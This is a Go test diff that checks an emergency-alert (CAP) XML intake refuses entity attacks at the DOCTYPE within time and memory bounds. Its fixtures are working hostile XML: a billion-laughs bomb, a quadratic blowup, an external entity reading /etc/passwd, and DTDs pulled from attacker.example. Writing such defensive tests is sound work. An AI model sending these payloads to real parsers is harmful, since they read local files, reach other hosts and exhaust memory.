@@ -7,6 +7,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"runtime"
 	"strings"
 	"testing"
 	"time"
@@ -224,5 +225,50 @@ func TestCAPFixturesValidate(t *testing.T) {
 		if out, err := exec.Command("xmllint", "--noout", "--schema", xsd, f).CombinedOutput(); err != nil {
 			t.Errorf("%s: %v\n%s", f, err, out)
 		}
+	}
+}
+
+// Entity attacks are refused at their DOCTYPE, at once and without expanding anything: a
+// billion laughs would be gigabytes, a quadratic blowup tens of megabytes, an external entity
+// a read of /etc/passwd or a request to another host.
+func TestCAPRefusesEntityAttacksQuickly(t *testing.T) {
+	var laughs strings.Builder
+	laughs.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">`)
+	for i := 1; i <= 9; i++ {
+		fmt.Fprintf(&laughs, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
+	}
+	laughs.WriteString(`]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&lol9;</note></alert>`)
+	big := strings.Repeat("x", 50_000)
+	quadratic := `<!DOCTYPE alert [<!ENTITY a "` + big + `">]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>` +
+		strings.Repeat("&a;", 20_000) + `</note></alert>`
+	for _, c := range []struct{ name, body string }{
+		{"billion laughs", laughs.String()},
+		{"quadratic blowup", quadratic},
+		{"external entity file:///etc/passwd", `<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
+			`<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>&xxe;</note></alert>`},
+		{"external DTD", `<!DOCTYPE alert SYSTEM "http://attacker.example/evil.dtd"><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
+		{"public DTD", `<!DOCTYPE alert PUBLIC "-//X//Y" "http://attacker.example/y.dtd"><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
+		{"parameter entity", `<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
+		{"DOCTYPE after a comment", `<!-- hello --><!DOCTYPE alert><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>`},
+		{"ENTITY declaration inside the alert", `<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><!ENTITY a "b"></alert>`},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			in := newIntake()
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			start := time.Now()
+			_, err := in.CAP(context.Background(), []byte(c.body))
+			took := time.Since(start)
+			runtime.ReadMemStats(&after)
+			if fireline.ErrorCode(err) != fireline.EINVALID || !strings.Contains(fireline.ErrorMessage(err), "refused: CAP alerts need no DOCTYPE or entity declarations") {
+				t.Fatalf("%v, want EINVALID naming the declaration", err)
+			}
+			if took > time.Second {
+				t.Errorf("took %s", took)
+			}
+			if grew := after.TotalAlloc - before.TotalAlloc; grew > 4*uint64(len(c.body))+1<<20 {
+				t.Errorf("allocated %d bytes for a %d-byte body: something expanded", grew, len(c.body))
+			}
+		})
 	}
 }
